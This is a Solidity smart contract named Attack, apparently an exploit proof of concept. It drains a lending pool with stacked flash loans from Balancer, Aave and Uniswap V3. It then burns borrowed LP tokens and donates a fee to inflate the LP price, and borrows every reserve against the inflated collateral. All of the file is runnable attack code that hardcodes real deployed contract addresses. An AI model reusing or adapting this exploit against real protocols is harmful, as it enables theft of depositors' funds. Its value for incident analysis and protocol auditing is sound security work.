// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {BalancerVault} from "../BalancerVault.sol";
import {Erc20} from "../Erc20.sol";
import {LendingPool} from "../LendingPool.sol";
import {UniswapV3Pool} from "../UniswapV3Pool.sol";
import {Borrower} from "./Borrower.sol";

interface LpWrapper is Erc20 {
    function deposit(uint256 amount0, uint256 amount1, uint256 min0, uint256 min1) external;
    function withdraw(uint256 shares) external;
}

/// Borrows an LP token and burns it, so that its supply is next to nothing while the collateral in it stays; a donated
/// fee then lifts the LP price by 74 %, and all reserves can be borrowed against it.
contract Attack {
    LendingPool constant LAVA = LendingPool(0x403049E886b13E42C149f15450CEB795216cddC6);
    LendingPool constant AAVE = LendingPool(0x794a61358D6845594F94dc1DB02A252b5b4814aD);
    BalancerVault constant BALANCER = BalancerVault(0xBA12222222228d8Ba445958a75a0704d566BF2C8);
    UniswapV3Pool constant USDC_USDCE = UniswapV3Pool(0x8e295789c9465487074a65b1ae9Ce0351172393f);
    UniswapV3Pool constant WETH_USDCE = UniswapV3Pool(0xC31E54c7a869B9FcBEcc14363CF510d1c41fa443);
    LpWrapper constant LP = LpWrapper(0x10bdA01aC4E644fD84a04Dab01E15A5eDcEE46dD);
    Erc20 constant A_LP = Erc20(0x1e482f0606152890F84dD59617e13EC06581B45a);
    Erc20 constant WETH = Erc20(0x82aF49447D8a07e3bd95BD0d56f35241523fBab1);
    Erc20 constant USDC = Erc20(0xaf88d065e77c8cC2239327C5EDb3A432268e5831);
    Erc20 constant USDCE = Erc20(0xFF970A61A04b1cA14834A43f5dE4533eBDDB5CC8);
    Erc20 constant USDT = Erc20(0xFd086bC7CD5C481DCC9C85ebE478A1C0b69FCbb9);
    Erc20 constant WSTETH = Erc20(0x5979D7b546E38E414F7E9822514be443A4800529);

    uint256 constant WETH_LOAN = 2_332_918_377_393_619_426_424;
    uint256 constant USDC_LOAN = 2_093_333_958_168;
    uint256 constant USDCE_LOAN = 2_789_629_246_439;
    uint256 constant AAVE_USDC_LOAN = 1_847_368_512_059;
    uint256 constant UNISWAP_USDCE_LOAN = 2_700_370_753_560;
    uint256 constant WETH_FOR_LP = 35_735_259_567_507_709_558;
    uint256 constant LP_BORROWED_FIRST = 988_680_292_585_834;
    int256 constant USDC_BOUGHT = 840_089_721_144;
    uint256 constant DONATION = 26_001_000_000;
    uint160 constant PUSH_LIMIT = 79_232_123_823_359_799_118_287_999_568;
    uint160 constant BACK_LIMIT = 79_188_560_314_459_151_373_725_315_960;

    function attack() external {
        address[] memory tokens = new address[](3);
        uint256[] memory amounts = new uint256[](3);
        (tokens[0], amounts[0]) = (address(WETH), WETH_LOAN);
        (tokens[1], amounts[1]) = (address(USDC), USDC_LOAN);
        (tokens[2], amounts[2]) = (address(USDCE), USDCE_LOAN);
        BALANCER.flashLoan(address(this), tokens, amounts, "");
    }

    /* FLASH LOANS, ONE INSIDE THE OTHER */

    function receiveFlashLoan(address[] calldata, uint256[] calldata, uint256[] calldata, bytes calldata) external {
        address[] memory assets = new address[](1);
        uint256[] memory amounts = new uint256[](1);
        (assets[0], amounts[0]) = (address(USDC), AAVE_USDC_LOAN);
        USDC.approve(address(AAVE), type(uint256).max);
        AAVE.flashLoan(address(this), assets, amounts, new uint256[](1), address(this), "", 0);
        WETH.transfer(address(BALANCER), WETH_LOAN);
        USDC.transfer(address(BALANCER), USDC_LOAN);
        USDCE.transfer(address(BALANCER), USDCE_LOAN);
    }

    function executeOperation(
        address[] calldata,
        uint256[] calldata,
        uint256[] calldata,
        address,
        bytes calldata
    ) external returns (bool) {
        WETH_USDCE.flash(address(this), 0, UNISWAP_USDCE_LOAN, "");
        return true;
    }

    function uniswapV3FlashCallback(uint256, uint256 fee1, bytes calldata) external {
        // The flash loan of one dollar is there for its fee, which the LP price counts.
        if (msg.sender == address(USDC_USDCE)) return USDC.transfer(msg.sender, DONATION);
        inflate();
        USDCE.transfer(msg.sender, UNISWAP_USDCE_LOAN + fee1);
    }

    /* THE ATTACK */

    function inflate() private {
        USDC.approve(address(LP), type(uint256).max);
        USDCE.approve(address(LP), type(uint256).max);
        WETH.approve(address(LAVA), type(uint256).max);
        LP.approve(address(LAVA), type(uint256).max);
        takeAllLp();

        LP.deposit(3_200_424_537_297, 3_200_744_579_750, 0, 0);
        uint256 firstMint = LP.balanceOf(address(this));
        LP.deposit(64_008_490_745, 64_014_891_595, 0, 0);
        LAVA.deposit(address(WETH), WETH.balanceOf(address(this)), address(this), 0);
        LAVA.deposit(address(LP), firstMint, address(this), 0);

        Borrower borrower = new Borrower();
        A_LP.transfer(address(borrower), A_LP.balanceOf(address(this)));
        LAVA.borrow(address(LP), LP.balanceOf(address(A_LP)), 2, 0, address(this));
        LP.withdraw(LP.balanceOf(address(this)));
        USDC_USDCE.flash(address(this), 1e6, 0, "");

        emptyReserve(borrower, USDCE, 0x16cba9A6a9BB38e339D4250dA0Afd919c6bDBDfE);
        emptyReserve(borrower, USDC, 0x16Cb622CaE7Ad9fd2b0780b2026ED301414781fE);
        emptyReserve(borrower, USDT, 0x8Da6Bc74B2534030cD38C996C395B914990fa684);
        emptyReserve(borrower, WETH, 0xec9b99C8262b72d846F0F80fCE76AF7D3c7c6AF6);
        emptyReserve(borrower, WSTETH, 0xCB1332663a39f238BCD1cc7621E3E24A50251b94);
        USDC_USDCE.swap(address(this), true, -USDC_BOUGHT, BACK_LIMIT, "");
    }

    /// Burns almost all LP that others hold in the pool, at a price pushed to the edge of the LP's range.
    function takeAllLp() private {
        LP.deposit(1e9, 1e9, 0, 0);
        Borrower helper = new Borrower();
        WETH.transfer(address(helper), WETH_FOR_LP);
        helper.deposit(LAVA, WETH, WETH_FOR_LP);
        helper.borrow(LAVA, LP, LP_BORROWED_FIRST);
        USDC_USDCE.swap(address(this), false, 5_490_000e6, PUSH_LIMIT, "");
        LP.withdraw(LP.balanceOf(address(this)));
    }

    function emptyReserve(Borrower borrower, Erc20 token, address reserve) private {
        borrower.borrow(LAVA, token, token.balanceOf(reserve));
    }

    function uniswapV3SwapCallback(int256 usdcOwed, int256 usdceOwed, bytes calldata) external {
        if (usdcOwed > 0) USDC.transfer(msg.sender, uint256(usdcOwed));
        if (usdceOwed > 0) USDCE.transfer(msg.sender, uint256(usdceOwed));
    }
}
